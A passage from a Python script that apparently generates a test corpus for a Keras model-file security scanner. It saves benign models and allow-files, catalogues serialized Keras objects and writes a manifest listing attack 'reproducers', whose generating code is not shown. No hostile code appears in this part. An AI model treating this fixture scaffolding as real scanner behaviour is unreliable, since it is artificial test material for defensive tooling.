    zoo.compile(optimizer=keras.optimizers.AdamW(learning_rate=schedule), loss=keras.losses.categorical_crossentropy,
                metrics=[keras.metrics.categorical_accuracy, keras.metrics.AUC(), "mse"])
    shutil.copy(save_keras(zoo, "zoo.keras"), path("benign", "layer_zoo.keras"))
    benign("benign/layer_zoo.keras", """Conv, normalization, recurrent, attention, wrappers, a nested
        Sequential, keras.ops in a functional graph (op classes of keras.src.ops), regularizer, constraint,
        initializer, a learning-rate schedule, function losses and metrics: all allow-listed.""")
    compiled = small_model()
    compiled.compile(optimizer=keras.optimizers.SGD(momentum=0.9), loss=keras.losses.mean_squared_error,
                     metrics=[keras.metrics.mean_absolute_error, "mse"])
    compiled.save(path("benign", "legacy_compiled.h5"))
    benign("benign/legacy_compiled.h5", "A compiled model as a legacy .h5: model_config and training_config.")

    custom = keras.Sequential([keras.Input((2,)), custom_objects.Scale(2.0, name="scale"),
                               keras.layers.Lambda(custom_objects.double, name="double"),
                               keras.layers.Dense(1, name="dense")], name="custom")
    shutil.copy(save_keras(custom, "custom.keras"), path("benign", "custom_registered.keras"))
    with open(path("benign", "allow.txt"), "w") as f:
        f.write("# The organisation's own objects (scripts/attacks/custom_objects.py).\nkconform_corpus>*\n")
    benign("benign/custom_registered.keras", """A registered custom layer and a registered function in a
        Lambda: unknown objects without registrations (Keras itself cannot load them without the code),
        clean with --allow-file benign/allow.txt.""", ["KC-SAFE-008"], allow_file="benign/allow.txt")


CANDIDATE_ARGUMENTS = [
    {}, {"units": 2}, {"filters": 2, "kernel_size": 2}, {"kernel_size": 2}, {"rate": 0.1}, {"target_shape": (2,)},
    {"dims": (1,)}, {"n": 2}, {"size": 2}, {"cropping": 1}, {"padding": 1}, {"num_heads": 1, "key_dim": 2},
    {"layer": "dense"}, {"cell": "cell"}, {"units": 2, "filters": 2, "kernel_size": 2}, {"max_value": 1.0},
    {"axis": -1}, {"height": 2, "width": 2}, {"factor": 0.1}, {"num_bins": 2}, {"num_tokens": 2}, {"scale": 1.0},
    {"num_classes": 2}, {"thresholds": [0.5]}, {"recall": 0.5}, {"precision": 0.5}, {"specificity": 0.5},
    {"sensitivity": 0.5}, {"num_classes": 2, "target_class_ids": [0]}, {"learning_rate": 0.1},
    {"initial_learning_rate": 0.1, "decay_steps": 10, "decay_rate": 0.9}, {"initial_learning_rate": 0.1, "decay_steps": 10},
    {"initial_learning_rate": 0.1, "first_decay_steps": 10}, {"boundaries": [1], "values": [0.1, 0.01]},
    {"name": "float32"}, {"mode": "int8", "source_name": "float32"}, {"value": 1.0}, {"l1": 0.1}, {"l2": 0.1},
    {"mean": 0.0, "variance": 1.0}, {"bins": [0.5]}, {"bin_boundaries": [0.5]}, {"output_mode": "int"},
    {"sequence_length": 2}, {"num_embeddings": 2, "embedding_dim": 2}, {"input_dim": 2, "output_dim": 2},
    {"depth_multiplier": 1, "kernel_size": 2}, {"function": keras.activations.relu}, {"activation": "relu"},
    {"pool_size": 2}, {"output_size": 2}, {"layer": "rnn"}, {"axes": 1}, {"equation": "ab,bc->ac", "output_shape": 2},
    {"stddev": 0.1}, {"head_dim": 2, "num_query_heads": 2, "num_key_value_heads": 1}, {"max_number": 2},
    {"layers": []}, {"factor": (1, 2)}, {"height_factor": 0.1, "width_factor": 0.1}, {"height_factor": 0.1},
    {"cells": "cells"}, {"fn": keras.metrics.mean_absolute_error}, {"inner_optimizer": "sgd"},
]


def serialized_objects():
    """Every exported modelling object Keras can build without data, as serialize_keras_object writes it."""
    from keras.src import api_export
    from keras.src.layers.preprocessing.index_lookup import IndexLookup
    objects, skipped = [], []
    namespaces = ("keras.layers.", "keras.initializers.", "keras.regularizers.", "keras.constraints.", "keras.losses.",
                  "keras.metrics.", "keras.optimizers.", "keras.dtype_policies.", "keras.quantizers.")
    cell = keras.layers.SimpleRNNCell(2)
    for name, obj in sorted(api_export.REGISTERED_NAMES_TO_OBJS.items()):
        if not name.startswith(namespaces):
            continue
        if isinstance(obj, type):
            if name.endswith(("TFSMLayer", "TorchModuleWrapper", "JaxLayer", "FlaxLayer")) or issubclass(obj, IndexLookup) \
                    or name.endswith("TextVectorization"):
                skipped.append(name)
                continue
            for arguments in CANDIDATE_ARGUMENTS:
                replacements = {"dense": keras.layers.Dense(2), "cell": cell, "rnn": keras.layers.LSTM(2),
                                "cells": [cell], "sgd": keras.optimizers.SGD()}
                arguments = {k: replacements.get(v, v) if isinstance(v, str) else v for k, v in arguments.items()}
                try:
                    with warnings.catch_warnings():
                        warnings.simplefilter("ignore")
                        objects.append(keras.saving.serialize_keras_object(obj(**arguments)))
                    break
                except Exception:
                    continue
            else:
                skipped.append(name)
        elif callable(obj) and name.rsplit(".", 1)[1] not in ("get", "serialize", "deserialize") \
                and name.startswith(("keras.activations.", "keras.losses.", "keras.metrics.")):
            objects.append(keras.saving.serialize_keras_object(obj))
    return objects, skipped


def make_object_catalogue():
    objects, skipped = serialized_objects()
    document = json.dumps({"keras_version": keras.__version__, "objects": objects, "not_built": skipped})
    with zipfile.ZipFile(path("benign", "keras_objects.json.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(set_info("keras_objects.json", zipfile.ZIP_DEFLATED), document)
    print(f"keras_objects.json: {len(objects)} objects, {len(skipped)} not built: {skipped}")


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    make_payload()
    make_a()
    make_a_layers()
    make_b()
    make_c()
    make_benign()
    make_object_catalogue()
    manifest = {
        "schema": 1,
        "producer": {"keras": keras.__version__, "backend": keras.backend.backend(), "h5py": h5py.__version__,
                     "hdf5": h5py.version.hdf5_version, "numpy": np.__version__,
                     "python": sys.version.split()[0], "script": "scripts/attacks/make_attacks.py"},
        "marker": MARK,
        "reproducers": ENTRIES,
        "benign": BENIGN,
    }
    with open(path("MANIFEST.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    shutil.rmtree(TMP)
    total = sum(os.path.getsize(os.path.join(d, n)) for d, _, files in os.walk(OUT) for n in files)
    print(f"{OUT}: {len(ENTRIES)} reproducers, {len(BENIGN)} benign files, {total} bytes")


if __name__ == "__main__":
    main()
